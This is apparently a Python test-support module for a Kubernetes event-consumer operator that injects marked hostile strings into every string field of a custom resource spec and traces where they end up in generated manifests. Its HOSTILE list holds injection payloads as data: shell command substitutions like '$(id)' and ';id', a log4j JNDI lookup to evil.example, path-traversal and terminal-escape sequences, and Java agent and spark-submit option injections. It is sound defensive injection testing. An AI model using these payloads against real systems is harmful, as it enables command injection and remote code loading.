"""A marker with hostile text in any one string field of a spec, and the places in manifests where it ends.

Fields come from the schema of the CRD, so a new field is covered without a change of this file. Values are grown: from
a text that the schema accepts, by inserting the marker, and then each hostile text that the schema still accepts.
"""

import ipaddress
import itertools
import json
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from datetime import timedelta
from functools import cache, cached_property
from typing import Any

from hypothesis import Phase, find, settings

from eventconsumer_api.kube import labels
from eventconsumer_api.kube.kinds import Manifest
from eventconsumer_api.resource.crdgen import structural
from eventconsumer_api.spec.spark import Launcher
from eventconsumer_api.v1alpha1 import EventConsumerSpec
from eventconsumer_api.v1alpha1.status import EventConsumerStatus
from eventconsumer_api.wire.host_report import PartitionLag
from eventconsumer_operator.errors import SpecError
from eventconsumer_operator.plan import Plan, make_plan
from eventconsumer_operator.resource.observed import Observed
from eventconsumer_operator.settings import Settings
from tests.support.expansion import expand
from tests.unit.operator.specs import text
from tests.unit.operator.test_no_escape import ADMINISTRATOR
from tests.unit.operator.worlds import NOW, SECRET, batch, fleet, observed, report, stateful_set

Schema = dict[str, Any]

MARKS = ("qzx", "QZX", "7317")
"""Texts that no manifest contains by itself; the first one that a field accepts is its marker."""
HOSTILE = (
    # Kubernetes' variables, and those of shells, Spark, log4j, and templates
    "$(POD_NAME)",
    "$$(POD_NAME)",
    "$(",
    "$",
    "${env:HOME}",
    "${jndi:ldap://evil.example}",
    "{{.Env}}",
    "$HOME",
    # shells and quotes
    "`id`",
    "$(id)",
    ";id",
    "|id",
    "&&id",
    "'",
    '"',
    "\\",
    "*",
    "~",
    "<&>",
    # terminals
    "\n",
    "\r\n",
    "\nMARK: y",
    "\t",
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\u202e",
    "\u2028",
    "\x9b",
    "é",
    # URLs and paths
    "../",
    "/..",
    "/../",
    "/./",
    "//",
    "..",
    "/",
    "%0a",
    "%2e%2e%2f",
    "@evil.example",
    "#x",
    "?x=y",
    ":443",
    "[::1]",
    # options of Java and spark-submit
    " -Dx=y",
    " -javaagent:x.jar",
    " --conf spark.x=y",
    " ",
    "=",
    ",",
    "|",
    "-",
    "_",
    ".",
)
# The text from which the value grows, and its marker where it is not one of MARKS: for values that must have a meaning.
SEEDS: dict[str, tuple[str, str]] = {
    "spec.eventHub.fullyQualifiedNamespace": ("qzxshop.servicebus.windows.net", "qzx"),
    "spec.checkpointStore.storageAccountUrl": ("https://qzxshop.blob.core.windows.net", "qzx"),
    "spec.sink.storageAccountUrl": ("https://qzxshop.blob.core.windows.net", "qzx"),
    "spec.sink.body.columns[].type": ("STRUCT<qzxa: DATE>", "qzx"),
    "spec.sink.body.schema": ("qzxa STRUCT<b: DATE>", "qzx"),
    "spec.sink.notices.url": ("https://hooks.shop.example/qzx", "qzx"),
    "spec.sink.notices.authentication.header": ("X-Key", ""),
    "spec.spark.trigger.schedule": ("17 3 7 3 *", "17 3 7 3 *"),
    "spec.spark.application.image": ("registry.example/spark/mine:1", ""),
    "spec.spark.application.mainFile": ("local:///app/mine.py", ""),
    "spec.spark.application.conf.*": ("7317", "7317"),
    "spec.startingPosition.partitions{}": ("7317", "7317"),
    "spec.spark.output.path": ("abfss://out@shop.dfs.core.windows.net/orders", ""),
    "spec.spark.output.body.registry.url": ("https://registry.shop.example/schemas", ""),
    "spec.processing.image": ("registry.example/shop/orders:1", ""),
    "spec.processing.handler": ("shop:Shop", ""),
    "spec.proxy.url": ("http://qzxproxy.shop.example:3128", "qzx"),
    "spec.pods.resources.requests.*": ("7317Mi", "7317"),
    "spec.pods.resources.limits.*": ("7317Mi", "7317"),
    **{
        f"{part}.{field}": (seed, "")
        for part in ("spec.processing", "spec.spark.application")
        for field, seed in {
            "env[].name": "APP_A",
            "envFrom[].prefix": "APP_",
            "volumes[].mountPath": "/config/shop",
        }.items()
    },
    **{
        f"spec.spark.{role}.{field}": (f"7317{unit}", "7317")
        for role in ("driver", "executor")
        for field, unit in {"memory": "m", "scratch.size": "Mi", "coreRequest": "m"}.items()
    },
}
# The same for fields by the end of their path.
SEED_ENDS = {
    **dict.fromkeys(("tolerations[].key", "matchExpressions[].key", "topologyKey"), ("shop.example/a", "")),
    **dict.fromkeys(("ipBlock.except[]", "ipBlock.cidr"), ("10.1.73.17/32", "10.1.73.17")),
}
FORMATS = {"date-time": ("2021-07-31T07:31:00Z", "2021-07-31T07:31:00"), "cidr": ("10.1.73.17/32", "10.1.73.17")}
# Keys of the maps whose values are looked at, and from which keys grow; other maps get a key of the first.
KEYS: dict[str, tuple[str, ...]] = {
    "spec.pods.resources.requests": ("memory",),
    "spec.pods.resources.limits": ("memory",),
    "spec.startingPosition.partitions": ("0",),
    # Of those that Spark copies to executors, and of others; each one for itself.
    "spec.spark.application.conf": (
        "spark.sql.shuffle.partitions",
        "spark.executor.heartbeatInterval",
        "spark.network.timeout",
        "spark.rpc.message.maxSize",
        "spark.driver.maxResultSize",
        "spark.log.level",
        "spark.task.maxFailures",
    ),
}
LABEL_KEYS = ("shop.example/a",)
# What a field needs beside it, where rules do not say so, by the end of its path.
BESIDE = {"egress[].to[].namespaces": "podSelector", "tolerations[].value": "key"}
# Rules of the CRD about one field, which the schema cannot say.
RULES = {"spec.proxy.url": r"^http://[A-Za-z0-9]([A-Za-z0-9.-]*[A-Za-z0-9])?:[0-9]{1,5}$"}
_EITHER = re.compile(r"has\(self\.(\w+)\) != has\(self\.(\w+)\)")
_KEY_SIZE = re.compile(r"size\(key\) >= (\d+) && size\(key\) <= (\d+)")


@dataclass(frozen=True)
class Field:
    """A string of the spec.

    Attributes:
        path: Path, such as spec.pods.labels{} for keys, spec.pods.labels.* for values, and x[] for items of lists.
        steps: The path in parts: names of properties, and [], * and {}.
    """

    path: str
    steps: tuple[str, ...]

    @cached_property
    def schema(self) -> Schema:
        """Its part of the schema."""
        node = schema_of_spec()
        for step in self.steps:
            if step == "{}":
                return _of_keys(node)
            match step:
                case "[]":
                    node = node["items"]
                case "*":
                    node = node["additionalProperties"]
                case _:
                    node = node["properties"][step]
        return node

    def accepts(self, value: str) -> bool:
        """Whether the API server accepts the value, but for rules of the CRD about several fields."""
        return _accepts(self.path, self.schema, value)

    @cached_property
    def seed(self) -> tuple[str, str]:
        """A tame value with the marker, and the marker."""
        value, mark = _seed_of(self.path) or FORMATS.get(self.schema.get("format", "")) or (self._start(), "")
        if mark:
            return value, mark
        for mark in MARKS:
            for place in reversed(range(len(value) + 1)):
                for changed in (
                    value[:place] + mark + value[place:],
                    value[:place] + mark + value[place + len(mark) :],
                ):
                    if self.accepts(changed):
                        return changed, mark
        raise AssertionError(f"{self.path}: no value with a marker is found: add one to SEEDS")

    def _start(self) -> str:
        if self.steps[-1] == "{}":
            return keys_of(self.path.removesuffix("{}"))[0]
        return _least(_constraints(self.schema))

    def grown(self, allowed: Callable[[str], bool], *, at_end: bool) -> str:
        """The seed with every hostile text with which it is accepted and allowed, from the end or from the start."""
        value, mark = self.seed
        for hostile in HOSTILE if at_end else reversed(HOSTILE):
            where = value.rfind(mark)
            inside = range(where + 1, where + len(mark))
            places: Iterable[int] = (each for each in range(len(value) + 1) if each not in inside)
            changes = (value[:place] + hostile + value[place:] for place in sorted(places, reverse=at_end))
            # At two places: a plan takes milliseconds.
            accepted = itertools.islice(filter(self.accepts, changes), 2)
            value = next(filter(allowed, accepted), value)
        return value


def _seed_of(path: str) -> tuple[str, str] | None:
    return SEEDS.get(path) or next((seed for end, seed in SEED_ENDS.items() if path.endswith(end)), None)


CONSTRAINTS = ("pattern", "minLength", "maxLength", "format")


def _constraints(schema: Schema) -> str:
    return json.dumps({each: schema[each] for each in CONSTRAINTS if each in schema})


@cache
def _least(constraints: str) -> str:
    """The simplest value, by hypothesis."""
    return find(  # type: ignore[no-any-return]
        text(json.loads(constraints)),
        lambda _: True,
        settings=settings(derandomize=True, database=None, phases=[Phase.generate, Phase.shrink]),
    )


@cache
def schema_of_spec() -> Schema:
    """The structural schema of spec."""
    return structural(EventConsumerSpec, defaults=True)


def fields() -> list[Field]:
    """Every string field of the spec."""
    return [Field("".join(["spec", *map(_shown, steps)]), tuple(steps)) for steps in _strings(schema_of_spec(), [])]


def _shown(step: str) -> str:
    return step if step in ("[]", "{}") else f".{step}"


def _strings(node: Schema, steps: list[str]) -> Iterator[list[str]]:
    if "enum" in node:
        return
    if "properties" in node:
        for name, inner in node["properties"].items():
            yield from _strings(inner, [*steps, name])
    elif "additionalProperties" in node:
        if not any("key in [" in rule["rule"] for rule in node.get("x-kubernetes-validations", [])):
            yield [*steps, "{}"]
        yield from _strings(node["additionalProperties"], [*steps, "*"])
    elif "items" in node:
        yield from _strings(node["items"], [*steps, "[]"])
    elif node.get("type") == "string" or node.get("x-kubernetes-int-or-string"):
        yield steps


def _of_keys(node: Schema) -> Schema:
    rules = " ".join(rule["rule"] for rule in node.get("x-kubernetes-validations", []))
    found = _KEY_SIZE.search(rules)
    return {"type": "string"} | ({"minLength": int(found[1]), "maxLength": int(found[2])} if found else {})


_END = re.compile(r"(?<!\\)\$(?=[|)]|\Z)")
"""The sign for the end in a pattern; others are escaped, or in a set of characters."""


def _accepts(path: str, schema: Schema, value: str) -> bool:
    if not schema.get("minLength", 0) <= len(value) <= schema.get("maxLength", len(value)):
        return False
    for pattern in filter(None, (schema.get("pattern"), RULES.get(path))):
        # In Go, $ is the end of the text alone, and \w and \s are of ASCII.
        if not re.search(_END.sub(r"\\Z", pattern), value, re.ASCII):
            return False
    return {"date-time": _is_time, "cidr": _is_network}.get(schema.get("format", ""), bool)(value or "-")


def _is_time(value: str) -> bool:
    return bool(re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})", value, re.ASCII))


def _is_network(value: str) -> bool:
    try:
        return bool(ipaddress.ip_network(value))
    except ValueError:
        return False


def keys_of(path: str) -> tuple[str, ...]:
    """Keys of a map of the spec."""
    return KEYS.get(path, LABEL_KEYS)


# --- specs -----------------------------------------------------------------------------------------------------------

BASE: dict[str, Any] = {
    "eventHub": {"name": "orders", "authentication": SECRET},
    "checkpointStore": {"container": "leases", "authentication": SECRET},
    "sink": {"container": "drained", "authentication": SECRET},
    "processing": {"handler": "shop:Shop", "handlerMode": "Transform", "image": "registry.example/shop/orders:1"},
    "spark": {
        "output": {"path": "abfss://out@shop.dfs.core.windows.net/orders"},
        "application": {"image": "registry.example/spark/mine:1", "mainFile": "local:///app/mine.py"},
        "reprocess": {"name": "again", "from": 1, "to": 4},
        "driver": {"scratch": {"size": "1Gi", "storageClassName": "fast"}},
        "executor": {"scratch": {"size": "1Gi"}},
    },
    "replay": {"name": "again", "consumerGroup": "replay"},
    "scaling": {"mode": "Lag", "minReplicas": 0},
}


def spec_with(field: Field, value: str, key: str, base: dict[str, Any]) -> dict[str, Any]:
    """`base` with a field set, and what it needs beside it.

    Args:
        field: The field.
        value: Its value.
        key: The key where the field is in a map.
        base: The spec.
    """
    made: dict[str, Any] = _set(schema_of_spec(), base, list(field.steps), value, key, "spec")
    return made


def _set(node: Schema, old: Any, steps: list[str], value: str, key: str, path: str) -> Any:
    if not steps:
        return value
    step, *rest = steps
    match step:
        case "[]":
            first = old[0] if old else None
            return [_set(node["items"], first, rest, value, key, f"{path}[]"), *(old or [])[1:]]
        case "*":
            inner = node["additionalProperties"]
            return (old or {}) | {key: _set(inner, (old or {}).get(key), rest, value, key, f"{path}.*")}
        case "{}":
            return (old or {}) | {value: _minimal(node["additionalProperties"], f"{path}.*")}
    made = dict(old) if old is not None else _minimal(node, path, but=step)
    for pair in _exclusive(node):
        if step in pair:
            for other in set(pair) - {step}:
                made.pop(other, None)
    made[step] = _set(node["properties"][step], made.get(step), rest, value, key, f"{path}.{step}")
    return made


def _beside(path: str) -> Iterator[str]:
    return (other for end, other in BESIDE.items() if path.endswith(end))


def _exclusive(node: Schema) -> Iterator[tuple[str, str]]:
    for rule in node.get("x-kubernetes-validations", []):
        for found in _EITHER.finditer(rule["rule"]):
            yield found[1], found[2]


def _minimal(node: Schema, path: str, but: str = "") -> Any:
    """The least value that the schema accepts; `but`: a property that the caller sets."""
    if "enum" in node:
        return node["enum"][0]
    if "properties" in node:
        required = {*node.get("required", []), *_beside(f"{path}.{but}")}
        required |= {pair[0] for pair in _exclusive(node) if not required.union([but]) & set(pair)}
        return {name: _minimal(node["properties"][name], f"{path}.{name}") for name in sorted(required - {but})}
    if "items" in node:
        return [_minimal(node["items"], f"{path}[]")] if node.get("minItems") else []
    if "additionalProperties" in node:
        return {}
    if node.get("type") == "string" or node.get("x-kubernetes-int-or-string"):
        seed = _seed_of(path)
        return seed[0].replace(MARKS[0], "") if seed else node.get("default") or _least(_constraints(node))
    return node.get("default", node.get("minimum", False if node.get("type") == "boolean" else 0))


# --- worlds ----------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class LauncherWorld:
    """What the operator finds: a resource with one launcher, and settings that allow what can be allowed.

    Attributes:
        name: Its name.
        spark: Fields of spec.spark.
        insecure: Whether any endpoint is allowed.
    """

    name: str
    spark: tuple[tuple[str, Any], ...]
    insecure: bool = True

    @property
    def native(self) -> bool:
        """Whether all manifests are ours."""
        return "launcher" not in dict(self.spark)

    def spec(self, field: Field, value: str, key: str) -> dict[str, Any]:
        """The spec with a field set."""
        base = BASE | {"spark": BASE["spark"] | dict(self.spark)}
        return spec_with(field, value, key, base)

    def settings(self, field: Field, value: str) -> Settings:
        """The administrator's settings: they allow the value, if there is a list of allowed values."""
        given = {
            "priorityClassName": "priority_classes",
            "storageClassName": "storage_classes",
            "registry.url": "schema_registries",
            "namespaces[]": "egress_namespaces",
        }
        allowed: dict[str, Any] = {
            setting: (*getattr(ADMINISTRATOR, setting), value)
            for end, setting in given.items()
            if field.path.endswith(end)
        }
        return replace(
            ADMINISTRATOR,
            spark_launchers=(Launcher.KUBEFLOW, Launcher.APACHE),
            allow_insecure_endpoints=self.insecure,
            proxy_suffixes=("shop.example",),
            notice_endpoints=("https://hooks.shop.example/",),
            **allowed,
        )


WORLDS = (
    LauncherWorld("native in the driver", (("mode", "Local"),)),
    LauncherWorld("native with executors", (("mode", "Executors"),), insecure=False),
    LauncherWorld("kubeflow", (("launcher", "Kubeflow"), ("mode", "Executors"))),
    LauncherWorld("apache", (("launcher", "Apache"), ("mode", "Executors"))),
)


def observe(spec: dict[str, Any], status: EventConsumerStatus | None = None) -> Observed:
    """A resource without hosts, with the probe, an open batch, and a replay and reprocessing to start."""
    asleep = {"replicas": 0, "reason": "r", "mode": "Lag", "lastScaleTime": NOW - timedelta(hours=1)}
    known = status or EventConsumerStatus.model_validate({"scaling": asleep, "hub": {"partitionCount": 8}})
    leader = fleet(committed=4, batch=batch(5)).model_copy(
        update={
            "lags": {str(number): PartitionLag(events=0, seconds=0) for number in range(8)},
            "last_enqueued_time": NOW - timedelta(days=1),
        }
    )
    reports = {"orders-probe-0": report(fleet=leader)}
    return observed(spec, status=known, hosts=stateful_set(0, 0), reports=reports)


def planned(world: LauncherWorld, field: Field, value: str, key: str) -> Plan:
    """The plan with a value in a field.

    Raises:
        SpecError: The operator refuses it.
    """
    return make_plan(observe(world.spec(field, value, key)), world.settings(field, value))


def keys(field: Field) -> tuple[str, ...]:
    """The keys below which a field is looked at; one without a meaning where it is in no map."""
    if "*" not in field.steps:
        return ("",)
    where = len(field.steps) - 1 - field.steps[::-1].index("*")
    return keys_of("".join(["spec", *map(_shown, field.steps[:where])]))


def allowed(world: LauncherWorld, field: Field, key: str) -> Callable[[str], bool]:
    """Whether the operator accepts a value."""

    def accepts(value: str) -> bool:
        try:
            planned(world, field, value, key)
        except SpecError:
            return False
        return True

    return accepts


# --- places ----------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class MarkedText:
    """A text of a manifest with a marker.

    Attributes:
        path: Where it is: kind and path; `pod` is any template of pods, `config` the configuration of hosts, `job` the
            input of drivers, and NAME{} a key.
        text: The text as it is there; within the environment, as the process gets it.
    """

    path: str
    text: str


# Where a template of pods, or JSON, begins; in these, paths begin again.
_PODS = re.compile(
    r"(StatefulSet|Job)\.spec\.template|SparkApplication\.spec\.(driver|executor)\.template"
    r"|SparkApplication\.spec\.(driver|executor)Spec\.podTemplateSpec|SparkPod"
)
_DIGESTS = {labels.ANNOTATION_CONFIG_HASH, labels.ANNOTATION_RESIDENT}
_JSON = {
    f"pod.spec.containers[].env[{labels.CONFIG_ENV}].value": "config",
    f"pod.spec.containers[].env[{labels.BATCH_JOB_ENV}].value": "job",
    "ConfigMap.data[config.json]": "config",
    f"pod.metadata.annotations[{labels.ANNOTATION_EXECUTOR}]": "pod",
}


def places(manifest: Manifest, mark: str) -> Iterator[MarkedText]:
    """Every place of a marker in a manifest."""
    yield from _walk(manifest, manifest["kind"], mark)


def _walk(node: Any, path: str, mark: str) -> Iterator[MarkedText]:
    if _PODS.fullmatch(path):
        path = "pod"
    if isinstance(node, dict):
        for name, value in node.items():
            if name in _DIGESTS:
                continue
            if mark in name:
                yield MarkedText(f"{path}{{}}", name)
            inner = "*" if mark in name else name
            yield from _walk(value, f"{path}[{inner}]" if re.search(r"[./]", inner) else f"{path}.{inner}", mark)
    elif isinstance(node, list):
        for each in node:
            named = each.get("name", "") if isinstance(each, dict) and path.endswith(".env") else ""
            yield from _walk(each, f"{path}[{'*' if mark in named else named}]", mark)
    elif isinstance(node, str) and mark in node:
        yield MarkedText(path, node)
        if path in _JSON:
            content = expand(node) if ".env[" in path else node
            yield from _walk(json.loads(content), _JSON[path], mark)


def skeleton(node: Any, mark: str) -> Any:
    """A manifest without its texts: what a text must not change."""
    if isinstance(node, dict):
        return {("*" if mark in name else name): skeleton(value, mark) for name, value in sorted(node.items())}
    if isinstance(node, list):
        return [skeleton(each, mark) for each in node]
    return "" if isinstance(node, str) else node


def manifests(plan: Plan) -> tuple[Manifest, ...]:
    """All manifests of a plan."""
    return tuple(itertools.chain(plan.applied, plan.jobs))
